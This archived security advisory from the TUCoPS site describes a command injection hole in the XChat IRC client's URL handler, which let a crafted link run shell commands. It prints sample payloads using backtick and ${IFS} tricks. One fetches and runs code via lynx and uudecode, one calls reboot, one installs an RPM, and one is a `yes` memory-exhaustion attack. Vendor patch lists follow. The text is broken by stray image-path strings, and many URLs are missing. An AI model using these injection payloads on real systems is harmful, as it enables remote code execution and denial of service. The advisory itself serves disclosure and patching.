Visit our newest sister site!
Hundreds of free aircraft flight manuals
Civilian • Historical • Military • Declassified • FREE!

TUCoPS :: Linux :: Apps N-Z :: xchatrt.htm

Xchat possible root hack





    Zenith Parsec found  following.  Just  to showwhat  we mean about
    the possible  danger, start  Netscape and  enter in  xchat, (in  a
    channel or query window) the following URL.'`lynx${IFS}-dump${IFS}|uudecode;./thingee`'

    Right click on it, and select the Netscape (Existing) or  Netscape
    (New Window) option.   Wait until the  URL loads.   In a shell  on
    your machine type

        tail -2 ~/.bash_profile

        echo You've been hax0red
        echo --zen

    (oops... should've been You\'ve been hax0red, but u get the  idea)
    Lucky it wasn't  a script that  was well written,  and designed to
    use script kiddie stuff to hack root or something, eh?

    For the  non-lazy and  the lazy  who were  impressed by  the quick

    The  hole  is  in  the  URL  Handler section.  Netscape (Existing)
    causes XChat to run the commandnetscape -remote 'openURL(%s)'

    where the %s is replaced by the selected URL eg:

    causes thecommand

        netscape -remote 'openURL('

    which opens  that page.   Netscape (Run  New) causes  XChat to run
    the command netscape %s and so on.

    Backticking and shell expansion.  Imagine if someone types:

        l00k @ d15 k3w1 w@r3z  5173!`date`y='`date`'

    with the (Existing)  or (New Window)  options and others  that use
    'openURL(%s)' type commands to start the program, you get:

        netscape -remote 'openURL(`date`y='`date`')'

    count the 's and u will see that at the 2nd `date` they are closed
    and then reopened, so that `date` isn't escaped anymore... leaving
    it free to run, which it does.

    With the (Run New) type commands (that is  command %s  with no  's
    around the %s) you get:which has the  1st `date` unescaped  (no 's around  it) and so  it
    executes.  In  real life though,  its unlikely anyone  would click
    on a URL like


    though.   Still, not  all that  useful, ha?   Well, URLs  can  get
    pretty long.   For example,  a cgi-bin  call to  somethng can  get
    quite long.

    compare that to:`reboot`+%2bexploit&stq=10&filter='`reboot`'&user=b0dee0132&split=1

    quick glance... nothing wrong with it.

    Well, you seem to have a limitation, in that putting spaces in
    doesn't work, nor does redirection.

    Well, you can put spaces in.   The $IFS variable is probably  set.
    And who needs redirection, when you can do this:'"`rpm${IFS}-i${IFS}`"'

    (For (Existing) or (New Window))"`rpm${IFS}-i${IFS}`"

    By the way, a way to exploit this that that's not too blatent,  if
    you don't mind just DOS-ing the victim, is something like`yes`

    (warning, following said URL in xchat will eat all memory you  are
    allowed  to  eat  on  your   system,  and  thus  tends  to   crash
    poorly-configured linux systems).


    It seems that this bug  will only affect XChat versions  1.3.9 and
    above, up  to and  including 1.4.2  (the devel  series may also bevulnerable, as there is no  mention on the changelog page  of this
    bug.) (release 1.3.9 was the first to have editable URL  handlers,
    which seem  to be  the cause).   Verfified bug  exists on  [x]chat

    Version 1.2.1 of xchat does not appear to be vulnerable.

    For Red Hat:


    For Linux-Mandrake:


    For Conectiva Linux:

    Just to chime in here,  for distributions who haven't released  an
    update the source for 1.4.2  is available on the author's  website
    here for the impatient:

    The latest stable release of debian is not vulnerable. Others:

    Slackware 7.1 does ship with xchat.  It is not vulnerable.An  essential  update  is  available  immediately from Helix Code,
    Inc.   via the  Helix GNOME  Updater and  from the following URLs.
    For Caldera OpenLinux eDesktop 2.4 systems:

    For Debian GNU/Linux potato (2.2) and woody systems:

    For LinuxPPC systems:For Linux Mandrake systems:

    For Red Hat Linux systems:

    For Solaris running on UltraSparc systems:

    For SuSE 6.3 systems:

    For SuSE 6.4 systems:

    For TurboLinuxsystems:

    For Linux-Mandrake:

        Linux-Mandrake 7.0: 7.0/RPMS/xchat-1.4.1-4mdk.i586.rpm
        Linux-Mandrake 7.1: 7.1/RPMS/xchat-1.4.1-4mdk.i586.rpm

    For FreeBSD:

    Users of Slackware  7.0, 7.1, and  -current are urged  to upgraded
    to  the  xchat.tgz  package  available  in  the Slackware -current

    Fo TurboLinux:

    Note:  You  mustrebuild  and  install  the  RPM if you choose to
    download and install the SRPM.   Simply installing the SRPM  alone

TUCoPS is optimized to look best in Firefox® on a widescreen monitor (1440x900 or better).
Site design & layoutcopyright © 1986-2015 AOH